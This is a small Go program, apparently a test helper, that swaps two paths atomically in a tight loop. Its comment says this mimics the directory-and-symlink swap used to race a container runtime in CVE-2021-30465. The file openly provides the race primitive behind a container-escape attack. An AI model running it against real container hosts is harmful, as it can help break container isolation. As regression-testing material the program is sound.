// Command swapper races a runtime: it exchanges two paths atomically
// (renameat2 RENAME_EXCHANGE) in a tight loop until it is killed, the way
// a container process swaps a directory and a symlink in a shared volume
// (CVE-2021-30465). It prints the number of swaps when it gets SIGTERM.
//
//	swapper PATH1 PATH2
package main

import (
	"fmt"
	"os"
	"os/signal"
	"sync/atomic"
	"syscall"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: swapper PATH1 PATH2")
		os.Exit(2)
	}
	var swaps atomic.Int64
	done := make(chan os.Signal, 1)
	signal.Notify(done, syscall.SIGTERM, syscall.SIGINT)
	go func() {
		for {
			if err := unix.Renameat2(unix.AT_FDCWD, os.Args[1], unix.AT_FDCWD, os.Args[2], unix.RENAME_EXCHANGE); err != nil {
				fmt.Fprintln(os.Stderr, "swapper:", err)
				os.Exit(1)
			}
			swaps.Add(1)
		}
	}()
	<-done
	fmt.Println(swaps.Load())
}
